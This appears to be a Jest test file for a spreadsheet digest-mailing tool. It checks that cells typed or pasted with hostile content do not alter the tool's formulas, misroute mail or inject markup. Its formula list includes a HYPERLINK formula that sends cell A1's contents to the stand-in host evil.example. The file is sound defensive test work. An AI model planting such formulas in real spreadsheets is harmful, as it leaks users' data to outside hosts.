import type { Host } from '../../src/local/host';
import { hostileCells } from '../support/hostile-cells';
import { hourAt, TODAY } from './digest-scene';
import { LATE } from './hostile-events';
import { htmlFaults, mailFaults } from './mail-faults';
import { formulasOf, logFaults, savedSheets } from './sheet-faults';
import { ask, cellAt, INSERT, LEAD, lastRun, loadShipped, newHost, restored, tableOf, typedCells } from './showrunner';

jest.setTimeout(60_000);

const CELLS = hostileCells();
const TEAM = '团队与分工';
const TASKS = '任务分解表';
/** The value of the event name on 设置. */
const EVENT_NAME = 'C2';
const TEAM_COLUMNS = ['group', 'name', 'role', 'email', 'digest'];
const TASK_COLUMNS = ['task', 'status', 'owner', 'due', 'group', 'deliverable', 'reason'];
/** Formulas a person may well type: theirs, and no reason to stop. */
const FORMULAS = ['=1+1', '=1/0', '=TODAY()', '=HYPERLINK("http://evil.example/?"&A1,"Click")'];

/** First rows of what was typed, by sheet: the hostile cells stand in every other row from there on. */
const first: { [title: string]: number } = {};
/** The workbook before anything was typed. */
let saved: string;
let host: Host;
let ours: readonly string[];
let effects = 0;

/** The columns take each text as if typed, cleared of validations as by a paste; formulas as text, but for some in the last column. */
function typeInto(title: string, columns: readonly string[], good: (n: number) => { readonly [column: string]: string | number }): void {
  const book = host.services().SpreadsheetApp.getActiveSpreadsheet();
  const sheet = book?.getSheets().find((each) => each.getName() === title);
  if (!sheet) throw new Error(`no sheet ${title}`);
  const top = Math.max(...tableOf(host, title).map(({ row }) => row)) + 1;
  first[title] = top;
  sheet.insertRowsAfter(sheet.getMaxRows(), 2 * CELLS.length);
  const keys = (typedCells(host, title)[0] ?? []).map((key) => String(key).split('|')[3]);
  const typed = (text: string): string => (text.startsWith('=') ? `'${text}` : text);
  for (const column of new Set([...columns, ...Object.keys(good(0))])) {
    const values = CELLS.flatMap(({ text }, n) => [[columns.includes(column) ? typed(text) : ''], [good(n)[column] ?? '']]);
    const range = sheet.getRange(top, keys.indexOf(column) + 1, values.length, 1);
    range.setDataValidations(values.map(() => [null]));
    range.setValues(values);
  }
  const last = keys.indexOf(columns[columns.length - 1]) + 1;
  for (const [n, formula] of FORMULAS.entries()) sheet.getRange(top + 2 * n, last, 1, 1).setValues([[formula]]);
}

beforeAll(async () => {
  await loadShipped();
  host = newHost({ mailQuota: 100_000 });
  ask(host, 'insertPlan', INSERT);
  ask(host, 'turnRemindersOn', {});
  ours = formulasOf(savedSheets(host));
  saved = host.save();
  typeInto(TEAM, TEAM_COLUMNS, (n) => ({ name: `好${n}`, email: `typed${n}@example.com` }));
  typeInto(TASKS, TASK_COLUMNS, (n) => ({ task: `好任务${n}`, owner: `好${n}`, due: LATE }));
});

afterAll(() => {
  const roles = TEAM_COLUMNS.length + TASK_COLUMNS.length;
  process.stdout.write(`hostile cells typed: ${CELLS.length} values, ${roles} roles, effects ${effects}\n`);
});

function nothing(faults: readonly string[]): void {
  effects += faults.length;
  expect(faults.slice(0, 20)).toEqual([]);
}

describe('cells as a person types or pastes them', () => {
  it('leave our formulas alone, and everybody else is mailed', () => {
    const formulas = new Set(formulasOf(savedSheets(host)));
    expect(ours.filter((formula) => !formulas.has(formula))).toEqual([]);
    hourAt(host, TODAY, 8);
    expect(lastRun(host).error).toBeNull();
    nothing([...host.outbox.flatMap((mail) => mailFaults(mail, host.url, new Set([LEAD]))), ...logFaults(host)]);
    const sent = host.outbox.map(({ to }) => to);
    expect(sent.filter((to) => /^typed\d+@/.test(to)).sort()).toEqual(CELLS.map((_, n) => `typed${n}@example.com`).sort());
    const held = new Set([LEAD, ...CELLS.flatMap((cell) => cell.to)]);
    expect(sent.filter((to) => !/^typed\d+@/.test(to) && !held.has(to))).toEqual([]);
  });

  it('are reported once each, by cell, and no good cell is', () => {
    const { findings } = ask(host, 'previewDigests', {});
    const places = findings.map(({ path }) => /^(任务分解表|团队与分工)!([A-Z]+)(\d+)$/.exec(path));
    expect(places.filter((place) => place === null)).toEqual([]);
    const good = places.filter((place) => {
      const below = Number(place?.[3]) - (first[place?.[1] ?? ''] ?? 0);
      return below >= 0 && below % 2 === 1;
    });
    expect(good.map((place) => place?.[0])).toEqual([]);
    const said = findings.map(({ code, path, facts }) => `${code} ${path} ${code === 'digest.noAddress' ? facts.owner : ''}`);
    expect(said.filter((each, at) => said.indexOf(each) !== at)).toEqual([]);
  });

  it('in a due cell count as the day they mean, and all others are named', () => {
    const { findings } = ask(host, 'previewDigests', {});
    const named = new Set(findings.filter(({ code }) => code === 'digest.badDate').map(({ path }) => Number(/\d+$/.exec(path)?.[0])));
    const isNamed = (text: string): boolean => named.has((first[TASKS] ?? 0) + 2 * CELLS.findIndex((cell) => cell.text === text));
    // The cells have a date format, so that a number is a day: of this century, or of 1899, 1900, 2173 or the year 57373.
    expect(['2026/12/20', '1-2', '2026年12月20日', '12月20日', '46376', '44562', '２０２６／１２／２０'].filter(isNamed)).toEqual([]);
    const wrong = ['5.', '9:30', '1e5', '10%', '007', '20261220', '-1', '(5)', '25:61', 'TRUE', '下周二', '2026-02-30', '¥5'];
    expect(wrong.filter((text) => !isNamed(text))).toEqual([]);
  });

  it('stop neither a repair nor a move of the event from being shown', () => {
    const repair = ask(host, 'previewRepair', { plan: null });
    expect(repair.findings.every(({ code }) => code.startsWith('repair.'))).toBe(true);
    const move = ask(host, 'previewMove', { plan: null, d0: '2026年12月27日' });
    expect([move.to.d0, move.moves.length > 20]).toEqual(['2026-12-27', true]);
    nothing(logFaults(host));
  });

  it('typed at the keyboard as the name of the event, one of each kind, are in the mails as text', () => {
    const kinds = new Map(CELLS.filter(({ text }) => text.length < 300).map((cell) => [cell.category, cell]));
    const small = restored(saved);
    small.editCell(TASKS, cellAt(small, TASKS, 'due', 3), '2026-12-01');
    for (const { text, category } of kinds.values()) {
      small.editCell('设置', EVENT_NAME, text);
      const { mails } = ask(small, 'previewDigests', {});
      expect([category, mails.length]).toEqual([category, 1]);
      nothing(mails.flatMap(({ html }) => htmlFaults(html, small.url)));
    }
    expect(kinds.size).toBeGreaterThan(12);
  });
});
